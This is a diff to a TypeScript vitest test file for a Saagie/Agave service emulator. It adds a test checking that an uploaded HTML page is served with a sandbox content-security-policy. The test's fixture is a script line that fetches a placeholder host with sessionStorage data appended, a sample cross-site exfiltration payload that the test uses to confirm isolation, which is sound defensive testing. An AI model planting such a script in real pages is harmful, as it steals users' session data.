@@ -1,6 +1,12 @@
 import { request } from "node:http";
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
-import { emulateSaagie, type EmulatedSaagie, type Listening } from "../../../src/emulator/index.ts";
+import { Agave } from "../../../src/agave/index.ts";
+import {
+  emulateAgave,
+  emulateSaagie,
+  type EmulatedSaagie,
+  type Listening,
+} from "../../../src/emulator/index.ts";
 import { Saagie } from "../../../src/saagie/index.ts";
 
 // The window without a browser: its files, who may have them, and what it is told. test/browser has it in one.
@@ -239,4 +245,27 @@ describe("what the window is told", () => {
     end.abort();
     await expect(reader.read()).rejects.toThrow("abort");
   });
+});
+
+test("a page that somebody has uploaded gets an origin of its own: it reads nothing that the window keeps", async () => {
+  const agave = emulateAgave();
+  try {
+    const { url } = await agave.listen();
+    const { user: username, password, clientKey: apiKey, clientSecret: apiSecret } = agave;
+    const client = new Agave({ baseUrl: url, username, password, apiKey, apiSecret });
+    const page = "<script>fetch('//elsewhere/?' + sessionStorage.key)</script>";
+    await client.files.upload({ name: "page.html", content: page }, "agave://data/ann/page.html", {
+      wait: true,
+    });
+    const { postit } = await client.postits.create({
+      url: `${url}/files/v2/media/system/data/ann/page.html`,
+      method: "GET",
+    });
+    const opened = await fetch(client.postits.urlOf(postit));
+    expect(opened.headers.get("content-type")).toContain("text/html");
+    expect(opened.headers.get("content-security-policy")).toBe("sandbox");
+    expect(await opened.text()).toBe(page);
+  } finally {
+    await agave.close();
+  }
 });
